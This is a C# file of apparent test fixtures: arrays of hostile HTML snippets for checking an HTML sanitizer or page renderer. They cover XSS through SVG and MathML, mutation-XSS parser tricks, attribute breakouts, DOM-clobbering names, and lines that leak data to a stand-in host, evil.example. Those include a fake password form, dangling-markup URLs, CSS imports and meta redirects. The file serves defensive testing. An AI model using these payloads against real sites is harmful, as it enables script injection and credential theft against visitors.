namespace Playbook.Testing.Hostile;

/// <summary>HTML that is not what it seems.</summary>
internal static class MarkupSnippets
{
    /// <summary>SVG and MathML, whose elements follow other rules.</summary>
    public static readonly string[] Foreign =
    [
        "<svg onload=__trap()></svg>",
        "<svg><script>__trap()</script></svg>",
        "<svg><script href=https://evil.example/x.js /></svg>",
        "<svg><a xlink:href=javascript:__trap()><text y=9>a</text></a></svg>",
        "<svg><animate onbegin=__trap() attributeName=x dur=1s></svg>",
        "<svg><a><animate attributeName=href values=javascript:__trap() /><text y=9>a</text></a></svg>",
        "<svg><set attributeName=onmouseover to=__trap() /></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=__trap() />#x\"/></svg>",
        "<svg><foreignObject><iframe src=javascript:__trap()></iframe></foreignObject></svg>",
        "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
        "<svg><image href=https://evil.example/x.png /></svg>",
        "<svg><feImage href=https://evil.example/x.png /></svg>",
        "<math href=javascript:__trap()>a</math>",
        "<math><mtext xlink:href=javascript:__trap()>a</mtext></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:__trap()>a</maction></math>",
        "</svg><img src=x onerror=__trap()>",
        "</text></svg><script>__trap()</script>",
    ];

    /// <summary>What a parser reads otherwise the second time, or otherwise than another parser.</summary>
    public static readonly string[] Misread =
    [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=__trap()&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__trap()>",
        "<svg></p><style><a id=\"</style><img src=x onerror=__trap()>\">",
        "<svg><desc><p>a<style><img src=x onerror=__trap()></style></p></desc></svg>",
        "<math><annotation-xml encoding=text/html><style><img src=x onerror=__trap()></style></annotation-xml></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=__trap()>\">",
        "<template><p title=\"</template><img src=x onerror=__trap()>\">",
        "<title><p title=\"</title><img src=x onerror=__trap()>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=__trap()>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=__trap()>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=__trap()>\">",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=__trap()>\">",
        "<style><style/><img src=x onerror=__trap()>",
        "<plaintext><script>__trap()</script>",
        "<p><svg><p><style><b title=\"</style><img src=x onerror=__trap()>\">",
        "<table><td><table><td><svg><style><b title=\"</style><img src=x onerror=__trap()>\">",
        "<div><p title=\"\n\n<b title=\" onmouseover=__trap() \">b</b>\n\n<p \">c</p></div>",
        "<div><!-- --!><p title=\"\n\n<b title=\" onmouseover=__trap() \">b</b>\n\n<p \">c --></p></div>\n\n</div>",
        "<?x ><a href='javascript:__trap()//?>[b](https://b.example)' <b>c",
        "<!x ><img src='x' onerror='__trap()//>![b](b.png)' <b>c",
        "<![CDATA[><img src=x onerror=__trap()>]]>",
        "<!--><img src=x onerror=__trap()>-->",
        "<!-- --!><img src=x onerror=__trap()>-->",
        "<!--<!--><img src=x onerror=__trap()>-->",
        "<!--\n\n<img src=x onerror=__trap()>\n\n",
        "<?php><img src=x onerror=__trap()>?>",
        "<!doctype html><img src=x onerror=__trap()>",
        "<% --><img src=x onerror=__trap()> %>",
        "<div\n\nonclick=__trap()>a</div>",
        "<a title='<b title=\"'><img src=x onerror=__trap()>\">",
    ];

    /// <summary>End tags of what stands around the content, and start tags that swallow what follows.</summary>
    public static readonly string[] Ends =
    [
        "</main></body></html>",
        "</p></div></main><footer><p>Mine</p></footer>",
        "</title><script>__trap()</script>",
        "</a></li></ul></nav></div>",
        "</h1></h2><h1>Mine</h1>",
        "</td></tr></tbody></table></div>",
        "</li></ul></section></main>",
        "</details></summary>",
        "</code></pre><script>__trap()</script>",
        "<main>",
        "<div><div><div><section><article>",
        "<table><tr><td>",
        "<ul><li><ol><li>",
        "<details><summary>",
        "<textarea>",
        "<select><option>",
        "<template>",
        "<style>",
        "<a href=\"https://a.example",
        "<b title=\"",
        "<!--",
        "<svg>",
        "<dl><dt><ruby><rt>",
        "<b><i><u><s><small><sub>",
        "<blockquote><h2>",
    ];

    /// <summary>What leaves an attribute's value, and what a page would take for its own.</summary>
    public static readonly string[] Quotes =
    [
        "\"",
        "'",
        "\"'`=<>&",
        "\">",
        "'>",
        "\" style=\"position:fixed;inset:0\" x=\"",
        "' style='position:fixed;inset:0' x='",
        "\" href=\"javascript:__trap()\" x=\"",
        "a\"b'c`d<e>f&g",
        "&quot;&gt;&lt;script&gt;__trap()&lt;/script&gt;",
        "&quot onmouseover=__trap()",
        "&#34; onmouseover=&#34;__trap()",
        "x\" autofocus tabindex=\"0\" onfocus=\"__trap()",
        "x\"/onmouseover=\"__trap()",
        "\\\" onmouseover=__trap() \\\"",
        "{#\" onclick=__trap()}",
        "x {#a onclick=__trap() style=\"color:red\"}",
    ];

    /// <summary>Addresses that are not in <c>href</c> or <c>src</c>.</summary>
    public static readonly string[] Addresses =
    [
        "<img srcset=\"https://evil.example/x.png 2x\">",
        "<img src=https://evil.example/x.png>",
        "<img src=//evil.example/x.png>",
        "<picture><source srcset=https://evil.example/x.png><img alt=a></picture>",
        "<video poster=https://evil.example/x.png></video>",
        "<a href=# ping=https://evil.example/p>a</a>",
        "<button formaction=javascript:__trap()>a</button>",
        "<input type=image src=https://evil.example/x.png formaction=javascript:__trap()>",
        "<td background=https://evil.example/x.png>a</td>",
        "<blockquote cite=javascript:__trap()>a</blockquote>",
        "<a xlink:href=javascript:__trap()>a</a>",
        "<img longdesc=javascript:__trap() lowsrc=javascript:__trap() dynsrc=javascript:__trap()>",
        "<p style=\"background:url(https://evil.example/x.png)\">a</p>",
        "<p style=\"background:url(javascript:__trap())\">a</p>",
        "<area href=javascript:__trap()>",
        "<map name=m><area href=javascript:__trap()></map><img usemap=#m src=x>",
        "<a href=# target=_top rel=opener download=x>a</a>",
        "<a href=https://evil.example target=opener>a</a>",
    ];

    /// <summary>What loads something, sends something or leads the visitor away by itself.</summary>
    public static readonly string[] Loading =
    [
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;javascript:__trap()\">",
        "<meta http-equiv=content-security-policy content=\"default-src 'none'\">",
        "<meta charset=utf-7>",
        "<base href=https://evil.example/>",
        "<base target=_blank>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=preload as=script href=https://evil.example/x.js>",
        "<link rel=dns-prefetch href=//evil.example>",
        "<link rel=manifest href=https://evil.example/m.json>",
        "<style>@import url(https://evil.example/x.css)</style>",
        "<style>body{background:url(https://evil.example/x.png)}</style>",
        "<iframe src=https://evil.example/></iframe>",
        "<iframe src=javascript:parent.__trap()></iframe>",
        "<iframe srcdoc=\"<script>parent.__trap()</script>\"></iframe>",
        "<frameset><frame src=javascript:__trap()></frameset>",
        "<object data=https://evil.example/x></object>",
        "<object data=\"data:text/html,<script>parent.__trap()</script>\"></object>",
        "<embed src=https://evil.example/x.svg>",
        "<applet code=x codebase=https://evil.example/></applet>",
        "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
        "<form id=x></form><button form=x formaction=https://evil.example/>a</button>",
        "<isindex action=javascript:__trap()>",
        "<portal src=https://evil.example/></portal>",
        "<dialog open><form method=dialog>a</form></dialog>",
        "<img src='https://evil.example/?",
        "<a href='https://evil.example/?",
        "<template shadowrootmode=open><script>__trap()</script></template>",
        "<slot name=x onslotchange=__trap()></slot>",
        "<link rel=icon href=https://evil.example/i.png>",
        "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"https://evil.example/\"]}]}</script>",
    ];

    /// <summary>Ids, names and classes that the layout or a script of ours would take for its own.</summary>
    public static readonly string[] Names =
    [
        "<p id=_content>a</p>",
        "<p id=_contents popover>a</p>",
        "<p id=_menu popover>a</p>",
        "<a name=_find>a</a>",
        "<p id=contents-title>a</p>",
        "<a id=location name=location>a</a>",
        "<a id=forms>a</a><a id=forms name=x>b</a>",
        "<img name=getElementById src=x>",
        "<img name=querySelector id=cookie src=x>",
        "<form name=body><input name=parentNode></form>",
        "<a id=self href=https://a.example>a</a>",
        "<a id=__trap href=https://a.example>a</a>",
        "<object name=documentElement></object>",
        "<p class=\"site-header menu contents\">a</p>",
        "<code class=\"language-x appearance\">a</code>",
        "<code class=\"language-x menu site-footer\">a</code>",
        "<label for=_find>a</label>",
        "<p popover popovertarget=_menu is=x slot=y part=z>a</p>",
        "<p hidden inert contenteditable accesskey=s>a</p>",
        "<p role=main aria-hidden=true aria-label=x>a</p>",
        "<p data-find data-none=x data-other=y>a</p>",
        "<p title=constructor id=constructor>a</p>",
        "<p id=__proto__>a</p>",
        "<h1 id=a>Mine</h1><main>b</main><header>c</header><footer>d</footer>",
        "<button popovertarget=_menu popovertargetaction=hide>a</button>",
    ];
}
